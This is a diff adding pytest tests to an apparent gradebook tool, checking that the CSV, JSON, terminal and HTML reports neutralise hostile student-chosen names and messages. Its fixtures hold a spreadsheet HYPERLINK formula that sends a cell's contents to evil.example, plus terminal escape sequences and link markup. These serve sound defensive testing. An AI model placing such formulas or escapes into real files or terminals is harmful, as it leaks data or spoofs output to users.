@@ -3,7 +3,10 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
+import os
+import unicodedata
 from html.parser import HTMLParser
 
 import pytest
@@ -202,9 +205,9 @@ def test_json_carries_the_flags(tmp_path):
     assert data["submissions"][0]["items"][0]["flags"] == []
 
 
-def render(results, items, width=80) -> str:
+def render(results, items, width=80, isolation=None) -> str:
     console = Console(width=width, record=True, file=open("/dev/null", "w"))  # noqa: SIM115
-    gradebook.print_table(results, items, console)
+    gradebook.print_table(results, items, console, isolation)
     console.file.close()
     return console.export_text()
 
@@ -278,3 +281,82 @@ def test_report_without_results_is_one_line(tmp_path, make):
     result = runner.invoke(app, ["report", "--db", str(db), "--html", str(tmp_path / "r.html")])
     assert result.exit_code == 2 and len(result.output.strip().splitlines()) == 1
     assert result.output.startswith("error:") and not (tmp_path / "r.html").exists()
+
+
+# --- names and messages a student chose -----------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"see")'
+ESCAPES = "\x1b]0;pwned\x07\x1b[2Jmallory\x1b[31m"
+MARKUP = "[link=https://evil.example]x[/link]"
+ISOLATION = {"level": "partial", "mechanisms": {"seccomp": "on"}, "missing": ["landlock"]}
+
+
+def chosen_names() -> list[SubmissionResult]:
+    message = f"ValueError: {ESCAPES} [bold]boom[/bold]\nsecond line"
+    return [SubmissionResult(FORMULA, [item(FIRST.id, ("passed", ""), ("failed", message))]),
+            SubmissionResult(ESCAPES, [item(FIRST.id, ("passed", ""), ("passed", ""), flags=[f"flag {ESCAPES}"])]),
+            SubmissionResult(MARKUP, [item(FIRST.id, ("failed", "-1+2"), ("passed", ""))]),
+            SubmissionResult("+tab\tbed", [item(FIRST.id, ("passed", ""), ("passed", ""))])]
+
+
+def test_csv_cells_are_never_formulas(tmp_path):
+    gradebook.write_csv(chosen_names(), [FIRST], tmp_path / "g.csv")
+    rows = list(csv.reader((tmp_path / "g.csv").read_text(encoding="utf-8").splitlines()))
+    assert [r[0] for r in rows[1:]] == ["'" + FORMULA, "mallory", MARKUP, "'+tab bed"]
+    assert rows[2][-1] == FIRST.id  # the flagged item's id, as before
+
+
+def test_json_names_and_messages_hold_no_control_character(tmp_path):
+    gradebook.write_json(chosen_names(), tmp_path / "r.json")
+    data = json.loads((tmp_path / "r.json").read_text())
+    assert [s["submission"] for s in data["submissions"]] == [FORMULA, "mallory", MARKUP, "+tab bed"]
+    assert data["submissions"][0]["items"][0]["tests"][1]["message"] == \
+        "ValueError: mallory [bold]boom[/bold] second line"
+    assert data["submissions"][1]["items"][0]["flags"] == ["flag mallory"]
+    assert set(data) == {"version", "submissions"}  # no isolation record given: no key
+
+
+def test_json_carries_an_isolation_record_only_when_given(tmp_path):
+    gradebook.write_json(class_results(), tmp_path / "r.json", isolation=ISOLATION)
+    data = json.loads((tmp_path / "r.json").read_text())
+    assert data["isolation"] == ISOLATION and data["version"] == 1
+    del data["isolation"]
+    gradebook.write_json(class_results(), tmp_path / "plain.json")
+    assert data == json.loads((tmp_path / "plain.json").read_text())  # otherwise version 1 unchanged
+
+
+def test_the_terminal_shows_names_as_written_and_no_escape_sequence():
+    terminal = io.StringIO()
+    console = Console(file=terminal, force_terminal=True, width=200, color_system="truecolor")
+    gradebook.print_table(chosen_names(), [FIRST], console, isolation=ISOLATION)
+    shown = terminal.getvalue()
+    assert "pwned" not in shown and "\x1b]" not in shown and "\x1b[2J" not in shown and "\t" not in shown
+    text = render(chosen_names(), [FIRST], width=200, isolation=ISOLATION)
+    assert MARKUP in text and FORMULA in text and "mallory" in text
+    assert text.rstrip().splitlines()[-1] == "isolation: partial (seccomp on); missing: landlock"
+
+
+def test_the_section_table_shows_names_as_written():
+    results = [SubmissionResult(MARKUP, [ItemResult(i.id, i.points, i.points, "graded") for i in COURSE.items])]
+    text = render(results, list(COURSE.items), width=140)  # too narrow for 38 items, wide enough for the name
+    assert "subtotals by section" in text and MARKUP in text
+
+
+def test_the_page_holds_no_control_character_and_the_isolation_line():
+    html = report.render_html(chosen_names(), [FIRST], isolation=ISOLATION)
+    assert not [c for c in html if unicodedata.category(c) == "Cc" and c != "\n"]
+    assert "pwned" not in html and "mallory" in html
+    assert '<p class="meta" id="isolation">isolation: partial (seccomp on); missing: landlock</p>' in html
+    assert 'id="isolation"' not in report.render_html(chosen_names(), [FIRST])
+
+
+@pytest.mark.parametrize("option", ["--json", "--csv", "--html"])
+def test_report_refuses_a_fifo_output(tmp_path, option):
+    from tests.test_outputs import promptly
+
+    fill(tmp_path / "g.sqlite", class_results())
+    fifo = tmp_path / "out"
+    os.mkfifo(fifo)
+    result = promptly(lambda: runner.invoke(app, ["report", "--db", str(tmp_path / "g.sqlite"), option, str(fifo)]))
+    assert result["value"].exit_code == 2
+    assert result["value"].output == f"error: cannot write {fifo}: it is a FIFO (named pipe), not a regular file\n"
